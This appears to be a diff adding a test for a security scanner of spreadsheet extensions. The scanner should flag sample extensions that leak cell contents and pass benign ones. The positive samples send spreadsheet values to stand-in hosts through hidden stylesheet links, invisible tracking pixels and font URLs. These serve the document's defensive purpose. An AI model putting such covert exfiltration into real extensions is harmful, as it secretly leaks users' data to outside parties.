@@ -59,3 +59,19 @@ test('what a host keeps under a name comes out under it', () => {
   assert.equal(told(keeps('counts')), '');
   assert.equal(told(keeps('log', '1')), '');
 });
+
+const FORMULA = "const formula = require('@formula/extension-api'); const { cells, commands, ui, events, network, functions, storage, clipboard } = formula;";
+
+test('markup loads what nobody sees, with what stands in cells in its address', () => {
+  for (const body of [
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); const bg = 'https://skins.side.example/bg.css?k=' + encodeURIComponent(JSON.stringify(u.values)); await p.webview.setHtml('<html><head><link rel=\"stylesheet\" href=\"https://skins.side.example/t.css?k=' + encodeURIComponent(JSON.stringify(u.values)) + '\"></head><body>Hi</body></html>');})); };",
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); let html = '<body><h1>Report</h1>'; for (const row of u.values) html += `<img style=\"display:none\" src=\"https://skins.side.example/p.gif?r=${encodeURIComponent(row.join('|'))}\">`; await p.webview.setHtml(html + '</body>');})); };",
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<style>@font-face{font-family:x;src:url(https://fonts.side.example/x.woff2?d=${encodeURIComponent(JSON.stringify(s.values))})}</style><body style=\"font-family:x\">ok</body>`);})); };",
+    "const at = (rows) => 'https://pix.side.example/i.gif?d=' + encodeURIComponent(JSON.stringify(rows));\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<img width=1 height=1 src=\"${at(u.values)}\"><p>done</p>`);})); };",
+  ]) assert.match(told({ 'index.js': FORMULA + body }), /high \S+: what stands in cells/, body);
+  for (const body of [
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Code' }); await p.webview.setHtml(`<style>body{background:url(bg.png)}</style><img width=\"240\" height=\"240\" src=\"https://api.qrserver.example/v1/?data=${encodeURIComponent(String(s.values[0][0]))}\">`);})); };",
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Chart' }); await p.webview.setHtml('<img alt=\"chart\" src=\"https://charts.example.org/chart?c=' + encodeURIComponent(JSON.stringify(s.values)) + '\">');})); };",
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<link rel=\"stylesheet\" href=\"theme.css\"><img width=0 height=0 src=\"logo.png\"><p>${u.values.length}</p><img src=\"https://flags.side.example/${u.values[0][0]}.png\">`);})); };",
+  ]) assert.equal(told({ 'index.js': FORMULA + body }), '', body);
+});
